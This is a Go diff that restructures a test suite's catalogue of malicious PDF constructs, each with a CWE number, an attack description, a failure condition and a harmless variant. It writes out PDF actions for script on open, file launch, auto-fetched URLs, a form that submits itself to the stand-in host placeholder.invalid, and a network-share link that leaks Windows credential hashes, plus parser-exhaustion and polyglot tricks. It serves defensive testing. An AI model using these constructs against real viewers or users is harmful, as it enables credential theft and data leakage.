@@ -10,67 +10,69 @@ import (
 )
 
 // Clauses in this file are those of ISO 32000-1.
-var pdfCases = []Case{
-	{Info{
-		Token: "pdf-open-script", Format: "pdf", Title: "JavaScript on open", Verdict: Sanitize, CWE: 829,
-		Attack:   "The document runs a script when it is opened.",
-		Failure:  "The script changes the title of the document to " + Marker + ".",
-		Harmless: "The action shows the page.",
-	}, onOpen(`/S/JavaScript/JS(this.info.Title = "` + Marker + `";)`)},
-	{Info{
-		Token: "pdf-launch", Format: "pdf", Title: "Launch action", Verdict: Reject, CWE: 610,
-		Attack:   "When the document is opened, it opens a local file with the program for its type.",
-		Failure:  "The viewer opens the canary, or asks the user whether it may.",
-		Harmless: "The action shows the page.",
-	}, onOpen("/S/Launch/F(" + Canary + ")")},
-	{Info{
-		Token: "pdf-open-link", Format: "pdf", Title: "URL requested on open", Verdict: Sanitize, CWE: 918,
-		Attack:   "The document requests a URL when it is opened, before anybody clicks the link on its page.",
-		Failure:  "The viewer requests a URL of placeholder.invalid, or resolves that name.",
-		Harmless: "The document requests the URL when somebody clicks the link.",
-	}, openLink},
-	{Info{
-		Token: "pdf-submit-form", Format: "pdf", Title: "Form that submits itself", Verdict: Sanitize, CWE: 201,
-		Attack:   "The document sends the values of its form to a host when its page is shown.",
-		Failure:  "The viewer sends the values to placeholder.invalid, or resolves that name.",
-		Harmless: "The action resets the form.",
-	}, submitForm},
-	{Info{
-		Token: "pdf-embedded-program", Format: "pdf", Title: "Embedded program", Verdict: Reject, CWE: 434,
-		Attack:   "A program is attached to the document.",
-		Failure:  "The receiver saves the attachment, which begins with the bytes MZ.",
-		Harmless: "A text is attached.",
-	}, embeddedProgram},
-	{Info{
-		Token: "pdf-network-share", Format: "pdf", Title: "Document on a network share", Verdict: Reject, CWE: 40,
-		Attack:   "When the document is opened, it opens another one on a network share, to which Windows sends the user's name and a hash of the password.",
-		Failure:  "The viewer connects to placeholder.invalid, or resolves that name.",
-		Harmless: "The action shows the page.",
-	}, onOpen(`/S/GoToR/D[0/Fit]/F(\\\\placeholder.invalid\\share\\` + Canary + `)`)},
-	{Info{
-		Token: "pdf-page-cycle", Format: "pdf", Title: "Cycle in the page tree", Verdict: Reject, CWE: 835,
-		Attack:   "A node of the page tree is its own descendant, so a walk over all pages never ends.",
-		Failure:  "The receiver does not end, runs out of stack or counts thousands of pages.",
-		Harmless: "The last kid of the node is a page.",
-	}, pageCycle},
-	{Info{
-		Token: "pdf-nested-arrays", Format: "pdf", Title: "Deeply nested arrays", Verdict: Reject, CWE: 674,
-		Attack:   "An object has 100,000 nested arrays, to exhaust the stack of a recursive parser.",
-		Failure:  "The receiver crashes.",
-		Harmless: "The object has as many arrays side by side.",
-	}, nestedArrays},
-	{Info{
-		Token: "pdf-replaced-page", Format: "pdf", Title: "Update that replaces the page", Verdict: Reject, CWE: 436,
-		Attack:   "An incremental update replaces the text of the page, so what a program reads depends on the revision it uses.",
-		Failure:  "One program reads “Pay 10 EUR”, another one “Pay 9000 EUR”.",
-		Harmless: "The update replaces an object that no program shows.",
-	}, replacedPage},
-	{Info{
-		Token: "pdf-zip", Format: "pdf", Title: "PDF that is also a zip", Verdict: Reject, CWE: 436, ASVS: "5.2.2",
-		Attack:   "The document is also a zip archive, which a filter that sees only the PDF does not check.",
-		Failure:  "The receiver accepts the file as a PDF, and an archiver extracts the canary from it.",
-		Harmless: "The stream that would be the archive is a text of the same length.",
-	}, pdfZip},
+func pdfCases() []Case {
+	return []Case{
+		{Info{
+			Token: "pdf-open-script", Format: "pdf", Title: "JavaScript on open", Verdict: Sanitize, CWE: 829,
+			Attack:   "The document runs a script when it is opened.",
+			Failure:  "The script changes the title of the document to " + Marker + ".",
+			Harmless: "The action shows the page.",
+		}, onOpen(`/S/JavaScript/JS(this.info.Title = "` + Marker + `";)`)},
+		{Info{
+			Token: "pdf-launch", Format: "pdf", Title: "Launch action", Verdict: Reject, CWE: 610,
+			Attack:   "When the document is opened, it opens a local file with the program for its type.",
+			Failure:  "The viewer opens the canary, or asks the user whether it may.",
+			Harmless: "The action shows the page.",
+		}, onOpen("/S/Launch/F(" + Canary + ")")},
+		{Info{
+			Token: "pdf-open-link", Format: "pdf", Title: "URL requested on open", Verdict: Sanitize, CWE: 918,
+			Attack:   "The document requests a URL when it is opened, before anybody clicks the link on its page.",
+			Failure:  "The viewer requests a URL of placeholder.invalid, or resolves that name.",
+			Harmless: "The document requests the URL when somebody clicks the link.",
+		}, openLink},
+		{Info{
+			Token: "pdf-submit-form", Format: "pdf", Title: "Form that submits itself", Verdict: Sanitize, CWE: 201,
+			Attack:   "The document sends the values of its form to a host when its page is shown.",
+			Failure:  "The viewer sends the values to placeholder.invalid, or resolves that name.",
+			Harmless: "The action resets the form.",
+		}, submitForm},
+		{Info{
+			Token: "pdf-embedded-program", Format: "pdf", Title: "Embedded program", Verdict: Reject, CWE: 434,
+			Attack:   "A program is attached to the document.",
+			Failure:  "The receiver saves the attachment, which begins with the bytes MZ.",
+			Harmless: "A text is attached.",
+		}, embeddedProgram},
+		{Info{
+			Token: "pdf-network-share", Format: "pdf", Title: "Document on a network share", Verdict: Reject, CWE: 40,
+			Attack:   "When the document is opened, it opens another one on a network share, to which Windows sends the user's name and a hash of the password.",
+			Failure:  "The viewer connects to placeholder.invalid, or resolves that name.",
+			Harmless: "The action shows the page.",
+		}, onOpen(`/S/GoToR/D[0/Fit]/F(\\\\placeholder.invalid\\share\\` + Canary + `)`)},
+		{Info{
+			Token: "pdf-page-cycle", Format: "pdf", Title: "Cycle in the page tree", Verdict: Reject, CWE: 835,
+			Attack:   "A node of the page tree is its own descendant, so a walk over all pages never ends.",
+			Failure:  "The receiver does not end, runs out of stack or counts thousands of pages.",
+			Harmless: "The last kid of the node is a page.",
+		}, pageCycle},
+		{Info{
+			Token: "pdf-nested-arrays", Format: "pdf", Title: "Deeply nested arrays", Verdict: Reject, CWE: 674,
+			Attack:   "An object has 100,000 nested arrays, to exhaust the stack of a recursive parser.",
+			Failure:  "The receiver crashes.",
+			Harmless: "The object has as many arrays side by side.",
+		}, nestedArrays},
+		{Info{
+			Token: "pdf-replaced-page", Format: "pdf", Title: "Update that replaces the page", Verdict: Reject, CWE: 436,
+			Attack:   "An incremental update replaces the text of the page, so what a program reads depends on the revision it uses.",
+			Failure:  "One program reads “Pay 10 EUR”, another one “Pay 9000 EUR”.",
+			Harmless: "The update replaces an object that no program shows.",
+		}, replacedPage},
+		{Info{
+			Token: "pdf-zip", Format: "pdf", Title: "PDF that is also a zip", Verdict: Reject, CWE: 436, ASVS: "5.2.2",
+			Attack:   "The document is also a zip archive, which a filter that sees only the PDF does not check.",
+			Failure:  "The receiver accepts the file as a PDF, and an archiver extracts the canary from it.",
+			Harmless: "The stream that would be the archive is a text of the same length.",
+		}, pdfZip},
+	}
 }
 
 // remoteURL is a URL whose host cannot exist (RFC 6761).
